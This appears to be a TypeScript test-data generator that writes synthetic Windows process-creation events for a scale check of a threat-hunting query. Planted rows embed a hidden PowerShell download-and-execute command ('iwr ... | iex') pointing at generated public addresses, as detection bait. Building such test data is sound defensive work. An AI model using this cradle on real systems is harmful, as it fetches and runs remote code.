/**
 * The data of the scale check (`npm run check:scale`) and of its small same-shape test: a SecurityEvent table file of
 * `rows` rows, one every `span / rows` ms in row order, so a row's number says where in the window it lies. Every row is
 * noise except the planted ones, each with an external address of its own:
 * - `candidateRows` rows (spread evenly) are `cmd.exe` with an internal address of their own (a candidate row of the
 *   hunting query, which keeps one row per command line, that detection rejects);
 * - the others are service command lines without any address, of a process the hunt does not watch;
 * - planted rows sit at the first and last row, the middle, and on both sides of each point where the window is halved
 *   when its answer is too large (quarters, eighths), so a lost or doubled part boundary shows as a missing address.
 */
import { once } from 'node:events';
import type { Writable } from 'node:stream';

export interface ScaleSampleOptions {
  readonly rows: number;
  readonly candidateRows: number;
  readonly start: Date;
  /** The time the rows span, in ms (the last row is `spanMs - spanMs / rows` after start). */
  readonly spanMs: number;
}

export interface ScaleSample {
  readonly rows: number;
  /** Planted external addresses, by the row that holds each. */
  readonly planted: ReadonlyMap<number, string>;
}

const BENIGN = [
  'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
  'C:\\Windows\\System32\\gpupdate.exe /target:computer /force',
  '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle',
  'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe -secured -Embedding',
];

/** The rows that carry a planted address: both ends, and both sides of every halving point down to eighths. */
export function plantedRows(rows: number): number[] {
  const at = new Set<number>([0, rows - 1]);
  for (const fraction of [1 / 2, 1 / 4, 3 / 4, 1 / 8, 3 / 8, 5 / 8, 7 / 8]) {
    const row = Math.floor(rows * fraction);
    for (const near of [row - 1, row, row + 1]) if (near > 0 && near < rows - 1) at.add(near);
  }
  return [...at].sort((a, b) => a - b);
}

/** A public address for the n-th planted row (45.33.0.0/16 is routable and in no special-purpose registry). */
function plantedAddress(n: number): string {
  return `45.33.${Math.floor(n / 250)}.${(n % 250) + 1}`;
}

/** An internal address of its own for candidate row n (10.0.0.0/8 has room for 16 million). */
function internalAddress(n: number): string {
  return `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`;
}

/** Writes the sample as JSON lines to `out`, a few thousand rows per write (waiting for `drain`), never as one string. */
export async function writeScaleSample(out: Writable, options: ScaleSampleOptions): Promise<ScaleSample> {
  const planted = new Map<number, string>();
  for (const row of plantedRows(options.rows)) planted.set(row, plantedAddress(planted.size));
  const step = options.spanMs / options.rows;
  // Candidate rows every `every` rows; planted rows take precedence over them.
  const every = options.candidateRows > 0 ? options.rows / options.candidateRows : Infinity;
  let nextCandidate = 0;
  let candidates = 0;
  let batch: string[] = [];
  for (let r = 0; r < options.rows; r++) {
    let commandLine: string;
    const address = planted.get(r);
    if (address !== undefined) {
      commandLine = `powershell.exe -nop -w hidden -c "iwr http://${address}/a.ps1 | iex"`;
    } else if (r >= nextCandidate && candidates < options.candidateRows) {
      commandLine = `cmd.exe /c ping -n 1 ${internalAddress(candidates)}`;
      candidates++;
      nextCandidate = Math.round(candidates * every);
    } else {
      commandLine = BENIGN[r % BENIGN.length]!;
    }
    const host = `WS-${String(r % 400).padStart(3, '0')}.contoso.local`;
    const user = `user${r % 300}`;
    batch.push(
      JSON.stringify({
        TimeGenerated: new Date(options.start.getTime() + Math.floor(r * step)).toISOString(),
        EventID: 4688,
        Activity: '4688 - A new process has been created.',
        Computer: host,
        Account: `CONTOSO\\${user}`,
        AccountType: 'User',
        SubjectUserName: user,
        SubjectDomainName: 'CONTOSO',
        // Noise runs under a process the hunt does not watch; candidate and planted rows under ones it does.
        Process: address !== undefined ? 'powershell.exe' : commandLine.startsWith('cmd.exe') ? 'cmd.exe' : 'svchost.exe',
        CommandLine: commandLine,
        EventSourceName: 'Microsoft-Windows-Security-Auditing',
        Channel: 'Security',
        Type: 'SecurityEvent',
      }),
    );
    if (batch.length === 2000) {
      if (!out.write(`${batch.join('\n')}\n`)) await once(out, 'drain');
      batch = [];
    }
  }
  if (batch.length > 0 && !out.write(`${batch.join('\n')}\n`)) await once(out, 'drain');
  return { rows: options.rows, planted };
}
